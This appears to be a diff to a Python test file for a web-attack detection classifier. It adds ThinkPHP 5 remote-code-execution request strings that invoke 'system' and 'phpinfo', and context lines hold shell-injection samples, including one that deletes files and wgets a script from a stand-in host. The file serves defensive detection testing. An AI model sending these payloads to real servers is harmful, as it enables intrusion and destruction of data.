@@ -249,6 +249,25 @@ def test_a_login_s_redirect_to_a_private_address_is_no_rfi(target):
 
 
 @pytest.mark.parametrize("target", [
+    r"/index.php?s=/index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array"
+    r"&vars[0]=system&vars[1][]=id",
+    r"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
+    r"&vars[0]=md5&vars[1][]=x",
+    "/index.php?s=index/%5Cthink%5Ccontainer/invokefunction&function=call_user_func_array"
+    "&vars%5B0%5D=phpinfo&vars%5B1%5D%5B%5D=1",
+    r"/index.php?s=index/\x5Cthink\x5CRequest/input&filter=system&data=id",
+    "/?s=index/think/app/invokefunction&function=call_user_func",
+])
+def test_thinkphp_s_routing_run_as_code_is_php_injection(target):
+    """ThinkPHP 5's remote code execution (its router reaching \\think\\app's
+    invokefunction, which calls call_user_func_array with the query's function),
+    which botnets send to any site, passed as an ordinary request (as nginx
+    and Apache log its backslashes, and percent-encoded). A search for 'think' is none."""
+    assert "php" in patterns.target_categories(target.encode())
+    assert patterns.target_categories(b"/?s=think+tank+call+user+function") == ()
+
+
+@pytest.mark.parametrize("target", [
     "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a",
     "/cgi-bin/;cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://203.0.113.9/x.sh",
 ])
